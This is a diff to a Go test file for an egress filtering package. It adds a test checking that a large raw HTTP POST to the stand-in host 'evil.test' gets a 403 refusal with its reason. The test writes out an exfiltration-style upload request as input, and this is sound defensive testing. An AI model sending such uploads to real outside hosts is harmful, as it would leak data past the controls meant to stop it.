@@ -1,6 +1,7 @@
 package egress
 
 import (
+	"bufio"
 	"bytes"
 	"context"
 	"crypto/sha256"
@@ -113,6 +114,28 @@ func TestRefusalsSayWhyAndAreKept(t *testing.T) {
 	}
 	if w.door.Refusals("other") != nil || len(w.dials()) != 0 {
 		t.Error("something else was kept or dialled")
+	}
+}
+
+func TestARefusedUploadStillReadsItsAnswer(t *testing.T) {
+	w := newWorld(t, nil)
+	w.open(action.Network{Navigation: []string{"app.test"}})
+	for range 20 {
+		conn := w.connect()
+		sent := make(chan struct{})
+		go func() {
+			defer close(sent)
+			_, _ = io.WriteString(conn, "POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 200000\r\n\r\n")
+			_, _ = conn.Write(make([]byte, 200000))
+		}()
+		wait(t, sent)
+		r, err := http.ReadResponse(bufio.NewReader(conn), nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if text := body(t, r); r.StatusCode != 403 || !strings.Contains(text, string(notAllowed)) {
+			t.Errorf("%d %s", r.StatusCode, text)
+		}
 	}
 }
 
